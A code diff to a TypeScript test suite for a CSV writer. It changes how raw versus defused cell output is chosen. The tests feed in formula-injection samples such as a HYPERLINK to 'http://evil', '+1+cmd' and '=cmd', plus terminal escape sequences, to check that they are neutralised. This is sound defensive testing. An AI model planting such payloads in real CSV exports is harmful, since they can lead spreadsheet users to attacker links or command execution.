@@ -7,7 +7,7 @@ import type { ReportRecord } from '../../src/output/records.js';
 /** One page of records through a fresh writer: the whole of a set of records as CSV. */
 /** RFC 4180 quoting alone: cells as received (--csv-raw), so that any text reads back as it was. */
 function toCsv(records: readonly ReportRecord[]): string {
-  const writer = new CsvWriter(() => {}, { cells: 'raw' });
+  const writer = new CsvWriter(() => {}, (text) => text);
   return writer.page(records) + writer.end();
 }
 
@@ -131,7 +131,8 @@ describe('CsvWriter across pages', () => {
 });
 
 describe('CSV opens safely in a spreadsheet (contract section 13)', () => {
-  const row = (record: Record<string, unknown>, cells?: 'safe' | 'raw') => new CsvWriter(() => {}, { cells }).page([record]).split('\r\n')[1];
+  const row = (record: Record<string, unknown>, cells?: (text: string) => string) =>
+    new CsvWriter(() => {}, cells).page([record]).split('\r\n')[1];
   it.each([
     ['=HYPERLINK("http://evil/?x","click")', `"'=HYPERLINK(""http://evil/?x"",""click"")"`],
     ['+1+cmd', "'+1+cmd"],
@@ -149,7 +150,7 @@ describe('CSV opens safely in a spreadsheet (contract section 13)', () => {
     expect(row({ a: 'x\u001b]0;owned\u0007y', b: 'a\u200bb', c: 'two\nlines', d: 'tab\there' })).toBe('x\\u001b]0;owned\\u0007y,a\\u200bb,"two\nlines",tab\there');
   });
   it('--csv-raw writes every cell exactly as received', () => {
-    expect(row({ a: '=1+1', b: 'x\u001by' }, 'raw')).toBe('=1+1,x\u001by');
+    expect(row({ a: '=1+1', b: 'x\u001by' }, (text) => text)).toBe('=1+1,x\u001by');
   });
   it('the header is defused too', () => {
     expect(new CsvWriter().page([{ '=cmd': 1 }]).split('\r\n')[0]).toBe("'=cmd");
